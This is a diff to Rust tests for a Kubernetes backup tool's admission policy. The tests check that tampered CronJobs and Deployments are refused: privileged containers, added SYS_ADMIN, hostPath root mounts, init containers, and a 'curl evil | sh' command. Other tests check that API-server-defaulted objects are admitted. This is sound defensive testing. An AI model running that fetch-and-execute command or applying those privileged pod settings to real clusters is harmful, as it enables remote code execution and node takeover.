@@ -19,7 +19,12 @@ use stash::store::Snapshot;
 const SERVER: &str = "system:serviceaccount:stash-system:stash-webhook";
 
 fn policy(name: &str) -> ValidatingAdmissionPolicy {
-    objects(&Options::default())
+    policy_for(name, &Options::default())
+}
+
+/// The policy as rendered for `options` (e.g. another image).
+fn policy_for(name: &str, options: &Options) -> ValidatingAdmissionPolicy {
+    objects(options)
         .expect("render")
         .into_iter()
         .find_map(|o| match o {
@@ -265,7 +270,21 @@ fn anything_else_on_a_workload_is_refused() {
                     .unwrap()
                     .push(json!({"name": "stash-root", "hostPath": {"path": "/"}}))
             }),
-            "hostPath",
+            "the only stash volume that may be a hostPath",
+        ),
+        (
+            "the scratch volume on a hostPath",
+            Box::new(|w| {
+                for v in w["spec"]["template"]["spec"]["volumes"]
+                    .as_array_mut()
+                    .unwrap()
+                {
+                    if v["name"] == "tmp-dir" {
+                        *v = json!({"name": "tmp-dir", "hostPath": {"path": "/"}});
+                    }
+                }
+            }),
+            "the only stash volume that may be a hostPath",
         ),
         (
             "a user volume",
@@ -396,32 +415,69 @@ fn other_cron_jobs_service_accounts_and_role_bindings_are_refused() {
     privileged.pointer_mut(&container).unwrap()["securityContext"] = json!({"privileged": true});
     let mut command = cj.clone();
     command.pointer_mut(&container).unwrap()["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    let mut service_account = cj.clone();
+    service_account.pointer_mut(pod).unwrap()["serviceAccount"] = json!("default");
+    let mut init = cj.clone();
+    init.pointer_mut(pod).unwrap()["initContainers"] = json!([{"name": "x", "image": "evil:1"}]);
+    let mut mounts = cj.clone();
+    mounts.pointer_mut(&container).unwrap()["volumeMounts"] =
+        json!([{"name": "root", "mountPath": "/host"}]);
+    let mut capabilities = cj.clone();
+    capabilities.pointer_mut(&container).unwrap()["securityContext"] =
+        json!({"capabilities": {"add": ["SYS_ADMIN"]}});
+    let mut host_process = cj.clone();
+    host_process.pointer_mut(pod).unwrap()["securityContext"] =
+        json!({"windowsOptions": {"hostProcess": true}});
+    let mut second = cj.clone();
+    let first = second.pointer(&container).unwrap().clone();
+    second
+        .pointer_mut(&format!("{pod}/containers"))
+        .unwrap()
+        .as_array_mut()
+        .unwrap()
+        .push(first);
+    const NAMED: &str = "named stash-backup-* that run as their own ServiceAccount";
+    const RUNS: &str = "runs one container: the stash image's create-backupsession";
+    const POD: &str = "pod has no volumes, init or ephemeral containers, host namespaces";
     let cases = [
         (
             "another image",
             edit(&format!("{container}/image"), json!("evil:1")),
+            RUNS,
         ),
-        ("another command", command),
+        ("another command", command, RUNS),
         (
             "other args",
             edit(&format!("{container}/args"), json!(["serve"])),
+            RUNS,
         ),
-        ("another name", edit("/metadata/name", json!("miner"))),
+        ("a second container", second, RUNS),
+        ("a volume mount", mounts, RUNS),
+        ("a privileged container", privileged, RUNS),
+        ("an added capability", capabilities, RUNS),
+        (
+            "another name",
+            edit("/metadata/name", json!("miner")),
+            NAMED,
+        ),
         (
             "another service account",
             edit(&format!("{pod}/serviceAccountName"), json!("default")),
+            NAMED,
         ),
-        ("a hostPath volume", hostpath),
-        ("host networking", host_network),
-        ("a privileged container", privileged),
+        ("another deprecated serviceAccount", service_account, NAMED),
+        ("a hostPath volume", hostpath, POD),
+        ("host networking", host_network, POD),
+        ("an init container", init, POD),
+        ("a Windows host process", host_process, POD),
     ];
-    for (what, object) in cases {
+    for (what, object, why) in cases {
         let answer = owned("cronjobs", &object);
         assert!(
             answer
                 .as_ref()
-                .is_some_and(|m| m.iter().any(|m| m.contains("stash creates only CronJobs"))),
-            "{what}: {answer:?}"
+                .is_some_and(|m| m.iter().any(|m| m.contains(why))),
+            "{what}: expected a refusal mentioning {why:?}, got {answer:?}"
         );
     }
 
@@ -453,4 +509,109 @@ fn other_cron_jobs_service_accounts_and_role_bindings_are_refused() {
         ),
         None
     );
+}
+
+/// A file of `tests/fixtures/real-apiserver/installed/`: what kube-apiserver
+/// v1.36.2 stored when the install was applied as is.
+fn stored(file: &str) -> Value {
+    let path = stash_testkit::repo_root()
+        .join("tests/fixtures/real-apiserver/installed")
+        .join(file);
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
+    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path:?}: {e}"))
+}
+
+/// The install the real cluster ran: `stash manifests --image stash:dev`.
+fn installed() -> Options {
+    Options {
+        image: "stash:dev".into(),
+        ..Options::default()
+    }
+}
+
+#[test]
+fn the_cronjob_as_a_real_api_server_stores_it_is_admitted() {
+    // The API server validates the object after its defaulting: the pod
+    // template gained `serviceAccount`, `dnsPolicy`, `schedulerName`,
+    // `securityContext: {}`, and the container `imagePullPolicy`,
+    // `terminationMessagePath`, `resources: {}`. The policy once refused
+    // exactly this object (an allow-list of pod fields without
+    // `serviceAccount`), so no scheduled backup ever ran.
+    let cj = stored("cronjob-as-stored.json");
+    let p = policy_for("stash-webhook-owned", &installed());
+    for (operation, old) in [("CREATE", None), ("UPDATE", Some(&cj))] {
+        accepted(admit(&p, SERVER, "cronjobs", operation, &cj, old));
+    }
+    // Whatever else a later release may default in a pod template or a
+    // container is no reason to refuse it.
+    let mut later = cj.clone();
+    let pod = later
+        .pointer_mut("/spec/jobTemplate/spec/template/spec")
+        .unwrap();
+    pod["enableServiceLinks"] = json!(true);
+    pod["hostUsers"] = json!(true);
+    pod["containers"][0]["resizePolicy"] =
+        json!([{"resourceName": "cpu", "restartPolicy": "NotRequired"}]);
+    accepted(admit(&p, SERVER, "cronjobs", "CREATE", &later, None));
+}
+
+#[test]
+fn the_sidecar_patch_as_a_real_api_server_stores_it_is_admitted() {
+    // The guide's Deployment after the reconciler back-filled the sidecar;
+    // the old object is the same Deployment without the stash parts.
+    let injected = stored("deployment-gcs-injected-as-stored.json");
+    let mut old = injected.clone();
+    let pod = old.pointer_mut("/spec/template/spec").unwrap();
+    pod["containers"]
+        .as_array_mut()
+        .unwrap()
+        .retain(|c| c["name"] != "stash");
+    pod["volumes"]
+        .as_array_mut()
+        .unwrap()
+        .retain(|v| v["name"] == "source-data");
+    old["spec"]["template"]["metadata"]
+        .as_object_mut()
+        .unwrap()
+        .remove("annotations");
+    old["metadata"]["annotations"]
+        .as_object_mut()
+        .unwrap()
+        .retain(|k, _| !k.starts_with("stash.appscode.com/"));
+    let p = policy_for("stash-webhook-workloads", &installed());
+    accepted(admit(
+        &p,
+        SERVER,
+        "deployments",
+        "UPDATE",
+        &injected,
+        Some(&old),
+    ));
+}
+
+#[test]
+fn a_local_backend_on_a_hostpath_gets_its_sidecar() {
+    // `/validate/repositories` admits a local backend on a hostPath, so the
+    // reconciler's patch for it must pass too (it once was refused: "a stash
+    // volume is never a hostPath").
+    let repo: Repository = serde_json::from_value(json!({
+        "apiVersion": "stash.appscode.com/v1alpha1", "kind": "Repository",
+        "metadata": {"name": "repo", "namespace": "demo"},
+        "spec": {"backend": {"local": {"mountPath": "/safe/data", "hostPath": {"path": "/data/stash-repo"}},
+                              "storageSecretName": "local-secret"}}
+    }))
+    .expect("Repository");
+    let mut snap = Snapshot::default();
+    snap.upsert_config(config());
+    snap.upsert_repository(repo);
+    let old = deployment();
+    let p = plan(&old, &snap, &Settings::default());
+    let mut injected = old.clone();
+    json_patch::patch(&mut injected, &p.ops).expect("the plan applies");
+    assert!(
+        injected.to_string().contains("\"stash-local-backend\""),
+        "the plan mounts the local backend: {injected}"
+    );
+    injected["metadata"]["resourceVersion"] = json!("8");
+    accepted(workloads(SERVER, &injected, &old));
 }
